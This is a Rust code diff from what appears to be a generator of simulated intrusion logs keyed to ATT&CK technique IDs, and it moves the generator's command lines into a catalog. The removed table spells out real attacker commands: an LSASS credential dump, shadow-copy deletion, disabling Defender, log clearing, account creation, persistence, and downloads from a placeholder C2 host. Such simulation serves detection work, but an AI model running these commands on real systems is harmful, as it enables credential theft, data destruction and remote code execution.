@@ -456,11 +456,7 @@ impl Writer<'_, '_> {
     /// A later stage, worked from `host`: its commands, or what it sent out.
     fn stage(&mut self, c: CampaignIx, host: HostIx, t: TechniqueIx) {
         let technique = &self.estate.plan.techniques[t];
-        let (id, effect, name) = (
-            technique.id.clone(),
-            technique.effect,
-            technique.name.clone(),
-        );
+        let (id, effect) = (technique.id.clone(), technique.effect);
         let s = self.draw(50);
         if effect == Effect::Exfiltrate {
             let to = match self.indicator(c, t) {
@@ -509,13 +505,13 @@ impl Writer<'_, '_> {
             self.connection(On(host, s + 1, c, t), ip, 443, 2_000, Some(c2));
             return;
         }
-        let (program, command) = command_of(&id, &name, &self.c2(c));
+        let (program, command) = command_of(&self.estate.plan.techniques[t], &self.c2(c));
         let parent = if program.contains("powershell") {
             "cmd.exe"
         } else {
             "powershell.exe"
         };
-        self.process(On(host, s, c, t), (program, command, parent));
+        self.process(On(host, s, c, t), (&program, command, parent));
         if effect == Effect::Encrypt || id == "T1490" {
             self.process(
                 On(host, s + 2, c, t),
@@ -573,77 +569,20 @@ impl Writer<'_, '_> {
     }
 }
 
-/// The program and command line a stage runs, by technique (the commands responders meet in
-/// incident reports for each); a technique not listed runs a script named for it.
-fn command_of(id: &str, name: &str, c2: &str) -> (&'static str, String) {
-    let line = match id {
-        "T1003" => (
-            "rundll32.exe",
-            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\d.bin full",
-        ),
-        "T1087" => ("net.exe", "net user /domain"),
-        "T1018" => ("nltest.exe", "nltest /dclist:"),
-        "T1082" => ("systeminfo.exe", "systeminfo"),
-        "T1083" => ("cmd.exe", "cmd.exe /c dir /s C:\\Users\\*.xlsx"),
-        "T1046" => (
-            "cmd.exe",
-            "cmd.exe /c C:\\ProgramData\\ns.exe -p 445,3389 10.0.0.0/16",
-        ),
-        "T1482" => ("nltest.exe", "nltest /domain_trusts /all_trusts"),
-        "T1490" => ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
-        "T1486" => ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
-        "T1053.005" => (
-            "schtasks.exe",
-            "schtasks /create /sc minute /mo 30 /tn \"OneDrive Sync\" /tr C:\\ProgramData\\sync.exe",
-        ),
-        "T1547.001" => (
-            "reg.exe",
-            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Sync /d C:\\ProgramData\\sync.exe",
-        ),
-        "T1136" => ("net.exe", "net user helpdesk P@ssw0rd! /add /domain"),
-        "T1562.001" => (
-            "WindowsPowerShell\\v1.0\\powershell.exe",
-            "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true",
-        ),
-        "T1070.001" => ("wevtutil.exe", "wevtutil cl Security"),
-        "T1558.003" => (
-            "WindowsPowerShell\\v1.0\\powershell.exe",
-            "powershell.exe -c \"Add-Type -AssemblyName System.IdentityModel; setspn -T * -Q */*\"",
-        ),
-        "T1555" => ("cmd.exe", "cmd.exe /c C:\\ProgramData\\lz.exe all"),
-        "T1114" => (
-            "WindowsPowerShell\\v1.0\\powershell.exe",
-            "powershell.exe New-MailboxExportRequest -Mailbox finance -FilePath \\\\10.0.0.5\\c$\\pst\\f.pst",
-        ),
-        "T1560.001" => (
-            "7z.exe",
-            "7z.exe a -pinfected C:\\ProgramData\\out.7z C:\\Users\\*\\Documents",
-        ),
-        "T1105" => (
-            "certutil.exe",
-            "certutil.exe -urlcache -split -f https://C2/a.exe C:\\ProgramData\\a.exe",
-        ),
-        "T1047" => (
-            "wmic.exe",
-            "wmic /node:10.0.0.5 process call create \"cmd.exe /c C:\\ProgramData\\a.exe\"",
-        ),
-        "T1068" => ("cmd.exe", "cmd.exe /c C:\\ProgramData\\elevate.exe"),
-        "T1059" => ("cmd.exe", "cmd.exe /c whoami /all"),
-        "T1059.001" => (
-            "WindowsPowerShell\\v1.0\\powershell.exe",
-            "powershell.exe -nop -ep bypass -c IEX (New-Object Net.WebClient).DownloadString('https://C2/p.ps1')",
-        ),
-        _ => {
-            let script = name
-                .to_lowercase()
-                .replace(|c: char| !c.is_ascii_alphanumeric(), "");
-            return (
-                "cmd.exe",
+/// The program a stage starts and its command line: the catalog's trace for the technique,
+/// else a batch file named for it.
+fn command_of(technique: &crate::scenario::Technique, c2: &str) -> (String, String) {
+    match &technique.trace {
+        Some(t) => (t.program.clone(), t.command.replace("{c2}", c2)),
+        None => {
+            let script =
+                (technique.name.to_lowercase()).replace(|c: char| !c.is_ascii_alphanumeric(), "");
+            (
+                "cmd.exe".into(),
                 format!("cmd.exe /c C:\\ProgramData\\{script}.bat"),
-            );
+            )
         }
-    };
-    (line.0, line.1.replace("C2", c2))
+    }
 }
 
 /// A PowerShell `-enc` argument: the command in UTF-16LE base64, as attackers pass it.
